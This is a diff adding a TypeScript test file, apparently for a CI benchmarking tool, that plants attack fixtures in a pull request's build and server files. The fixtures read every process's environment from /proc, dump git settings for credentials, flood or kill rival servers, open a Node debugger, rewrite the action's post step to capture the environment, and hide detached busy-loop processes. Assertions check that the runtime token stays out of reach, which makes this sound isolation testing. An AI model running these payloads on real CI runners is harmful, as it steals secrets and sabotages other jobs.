@@ -1,0 +1,210 @@
+/** Heads that reach for tokens, for our processes, and for the other side. */
+import assert from 'node:assert/strict';
+import { type Attack, LOOT } from '../attack.ts';
+import { app, BUILD, server } from '../victim.ts';
+
+/** Whether this process is head's: base has no file of this name. */
+const NOT_THE_TOKEN = ({ loot, run }: { loot: string; run: { token: string } }) => {
+	assert.notEqual(loot, '', 'the attack did not run');
+	assert.equal(loot.includes(run.token), false, 'the token was found');
+	assert.doesNotMatch(loot, /ACTIONS_RUNTIME_TOKEN=\S/);
+};
+
+const READ_EVERYTHING = `
+import { appendFileSync, readdirSync, readFileSync } from 'node:fs';
+for (const name of readdirSync('/proc')) {
+	for (const file of ['environ', 'cmdline']) {
+		try { appendFileSync('${LOOT}/proc.txt', readFileSync('/proc/' + name + '/' + file, 'latin1') + '\\n'); } catch {}
+	}
+}
+appendFileSync('${LOOT}/proc.txt', JSON.stringify(process.env));
+`;
+
+const READ_CHECKOUT = `
+import { appendFileSync, readFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+appendFileSync('${LOOT}/git.txt', 'looked\\n');
+for (const command of [['config', '--list'], ['config', '--global', '--list'], ['remote', '-v']]) {
+	try { appendFileSync('${LOOT}/git.txt', execFileSync('git', command, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] })); } catch {}
+}
+`;
+
+/** Port of the other server: the only other one that listens among the children of our parent. */
+const FIND_RIVAL = `
+import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
+export function listening() {
+	return readFileSync('/proc/net/tcp', 'latin1').split('\\n').slice(1).flatMap((line) => {
+		const words = line.trim().split(/\\s+/);
+		return words[3] === '0A' && words[1].startsWith('0100007F') ? [parseInt(words[1].split(':')[1], 16)] : [];
+	}).filter((port) => port !== Number(process.env.PORT));
+}
+export function processes(pattern) {
+	return readdirSync('/proc').filter((name) => /^\\d+$/.test(name) && Number(name) !== process.pid).filter((name) => {
+		try { return pattern.test(readFileSync('/proc/' + name + '/cmdline', 'latin1')); } catch { return false; }
+	}).map(Number);
+}
+export function cwdOf(pid) { try { return readlinkSync('/proc/' + pid + '/cwd'); } catch { return ''; } }
+`;
+
+const FLOOD = `
+import { connect } from 'node:net';
+import { appendFileSync } from 'node:fs';
+import { listening } from './find.mjs';
+setTimeout(() => {
+	const request = 'GET /fast HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n'.repeat(20);
+	for (const port of listening()) {
+		for (let n = 0; n < 4; n++) {
+			const socket = connect(port, '127.0.0.1');
+			socket.on('error', () => {}).on('data', () => socket.write(request));
+			socket.on('connect', () => { appendFileSync('${LOOT}/flood.txt', 'flooded\\n'); socket.write(request); });
+		}
+	}
+}, 300);
+`;
+
+/** What is done to every server that is not ours, again and again. */
+const toRival = (action: string) => `
+import { appendFileSync } from 'node:fs';
+import { cwdOf, processes } from './find.mjs';
+setInterval(() => {
+	for (const pid of processes(/server\\.mjs/)) {
+		if (cwdOf(pid) === process.cwd()) continue;
+		try { ${action}; appendFileSync('${LOOT}/rival.txt', 'reached\\n'); } catch (error) { appendFileSync('${LOOT}/rival.txt', error.code + '\\n'); }
+	}
+}, 20);
+`;
+
+export const REACH_HEADS: readonly Attack[] = [
+	{
+		does: 'reads the environment of every process, while it builds',
+		files: { 'build.mjs': `${READ_EVERYTHING}${BUILD}` },
+		ends: 'honest',
+		check: NOT_THE_TOKEN,
+	},
+	{
+		does: 'reads the environment of every process, while it serves',
+		files: { 'bench/server.mjs': server(READ_EVERYTHING) },
+		ends: 'honest',
+		check: NOT_THE_TOKEN,
+	},
+	{
+		does: "looks for credentials in git's settings",
+		files: { 'build.mjs': `${READ_CHECKOUT}${BUILD}` },
+		ends: 'honest',
+		check: NOT_THE_TOKEN,
+	},
+	{
+		does: "floods the other server's port with requests",
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/flood.mjs': FLOOD,
+			'bench/server.mjs': server("import './flood.mjs';"),
+		},
+		ends: 'red',
+		says: /connection/i,
+	},
+	{
+		does: 'kills the other server',
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/reach.mjs': toRival("process.kill(pid, 'SIGKILL')"),
+			'bench/server.mjs': server("import './reach.mjs';"),
+		},
+		ends: 'neutral',
+	},
+	{
+		does: 'stops and continues the other server in pulses',
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/reach.mjs': toRival(
+				"process.kill(pid, 'SIGSTOP'); setTimeout(() => { try { process.kill(pid, 'SIGCONT'); } catch {} }, 10)",
+			),
+			'bench/server.mjs': server("import './reach.mjs';"),
+		},
+		ends: 'neutral',
+		says: /stopped/i,
+	},
+	{
+		does: 'opens the debugger of the load generator',
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/reach.mjs': `
+import { appendFileSync } from 'node:fs';
+import { processes } from './find.mjs';
+setInterval(async () => {
+	for (const pid of processes(/generator\\.cjs|action\\.js|watchdog\\.js/)) { try { process.kill(pid, 'SIGUSR1'); } catch {} }
+	try {
+		const answer = await fetch('http://127.0.0.1:9229/json');
+		appendFileSync('${LOOT}/debugger.txt', 'opened ' + await answer.text());
+	} catch { appendFileSync('${LOOT}/debugger.txt', 'closed\\n'); }
+}, 100);
+`,
+			'bench/server.mjs': server("import './reach.mjs';"),
+		},
+		ends: 'honest',
+		check: ({ loot }) => {
+			assert.match(loot, /closed/);
+			assert.doesNotMatch(loot, /opened/);
+		},
+	},
+	{
+		does: 'rewrites the action, for the post step to run',
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/reach.mjs': `
+import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
+import { processes } from './find.mjs';
+setTimeout(() => {
+	for (const pid of processes(/generator\\.cjs/)) {
+		const dist = /([^\\0]*\\/dist)\\/generator\\.cjs/.exec(readFileSync('/proc/' + pid + '/cmdline', 'latin1'))[1];
+		try {
+			writeFileSync(dist + '/action.js', "require('node:fs').appendFileSync('${LOOT}/post.txt', 'post ' + JSON.stringify(process.env))");
+			appendFileSync('${LOOT}/reach.txt', 'rewrote\\n');
+		} catch (error) { appendFileSync('${LOOT}/reach.txt', error.code + '\\n'); }
+	}
+}, 300);
+`,
+			'bench/server.mjs': server("import './reach.mjs';"),
+		},
+		ends: 'honest',
+		check: NOT_THE_TOKEN,
+	},
+	{
+		does: "changes base's files",
+		files: {
+			'bench/find.mjs': FIND_RIVAL,
+			'bench/reach.mjs': `
+import { appendFileSync, writeFileSync } from 'node:fs';
+import { cwdOf, processes } from './find.mjs';
+setInterval(() => {
+	for (const pid of processes(/server\\.mjs/)) {
+		const folder = cwdOf(pid);
+		if (folder === '' || folder === process.cwd()) continue;
+		try {
+			writeFileSync(folder + '/../lib/app.mjs', ${JSON.stringify(app({ work: 400_000 }))});
+			appendFileSync('${LOOT}/reach.txt', 'rewrote\\n');
+		} catch (error) { appendFileSync('${LOOT}/reach.txt', error.code + '\\n'); }
+	}
+}, 50);
+`,
+			'bench/server.mjs': server("import './reach.mjs';"),
+		},
+		ends: 'neutral',
+	},
+	{
+		does: 'leaves processes behind that go on computing',
+		files: {
+			'bench/server.mjs': server(`import { spawn } from 'node:child_process';
+for (let n = 0; n < 3; n++) spawn(process.execPath, ['-e', 'setTimeout(() => process.exit(), 60000); for (;;);'], { detached: true, stdio: 'ignore' }).unref();`),
+		},
+		ends: 'honest',
+	},
+	{
+		does: 'hides its work in processes that nobody is to find',
+		files: {
+			'bench/server.mjs': server(`import { spawn } from 'node:child_process';
+for (let n = 0; n < 2; n++) spawn('/bin/sh', ['-c', 'setsid "$0" -e "setTimeout(() => process.exit(), 20000); for (;;);" &', process.execPath], { detached: true, stdio: 'ignore', env: {} }).unref();`),
+		},
+		ends: 'honest',
+	},
+];
